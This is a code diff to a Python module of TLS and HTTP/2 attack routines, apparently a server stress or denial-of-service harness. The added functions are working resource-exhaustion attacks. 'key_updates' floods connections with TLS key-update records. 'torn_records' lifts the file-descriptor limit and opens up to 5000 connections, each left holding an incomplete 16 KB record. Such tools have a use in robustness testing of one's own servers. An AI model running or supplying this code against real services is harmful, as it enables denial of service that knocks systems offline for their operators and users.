@@ -2,12 +2,16 @@
 others."""
 
 import random
+import resource
 import ssl
 import time
 
 from attack_run import main, repeat
+from frames import PREFACE, frame, settings
+from key_updates import KeyUpdater
 
 GARBAGE_SEED = 7
+UNKNOWN_FRAME = 0xfa
 
 
 def client_context():
@@ -87,6 +91,58 @@ def endless_hello(run):
     """Records of a handshake message that does not end."""
     record = b"\x16\x03\x01\x40\x00"
     repeat(run, record + b"\x01\xff\xff\xff" + bytes(16380) + (record + bytes(16384)) * 3, "chunks", preface=False)
+
+
+def key_updates(run):
+    """Records that renew keys, as fast as they are taken, on one connection after the other."""
+    while run.goes_on():
+        if not (attacker := run.connect(preface=False)):
+            continue
+        try:
+            client = KeyUpdater(attacker.socket)
+            client.write(PREFACE + settings())
+            while run.goes_on() and attacker.send(client.key_updates(500)) and attacker.skim():
+                run.count("updates", 500)
+        except OSError:
+            run.count("failed")
+        attacker.close()
+        run.count("cut", run.goes_on())
+
+
+def torn_records(run):
+    """Connections that hold all but the last byte of a record as large as may be, and as many as they get."""
+    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+    context = client_context()
+    attackers = []
+    run.begin()
+    while run.goes_on() and len(attackers) < 5000:
+        if not (attacker := run.connect(preface=False)):
+            continue
+        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+        client = context.wrap_bio(incoming, outgoing)
+        try:
+            while not shaken_hands(client):
+                attacker.socket.sendall(outgoing.read())
+                incoming.write(attacker.socket.recv(1 << 16))
+            client.write(PREFACE + settings())
+            attacker.socket.sendall(outgoing.read())
+            client.write(frame(UNKNOWN_FRAME, 0, 0, bytes(16000)))
+            attacker.socket.sendall(outgoing.read()[:-1])
+        except OSError:
+            run.count("failed")
+            attacker.close()
+            continue
+        attackers.append(attacker)
+        run.count("records")
+    run.hold(attackers)
+
+
+def shaken_hands(client):
+    try:
+        client.do_handshake()
+        return True
+    except ssl.SSLWantReadError:
+        return False
 
 
 def garbage(run):
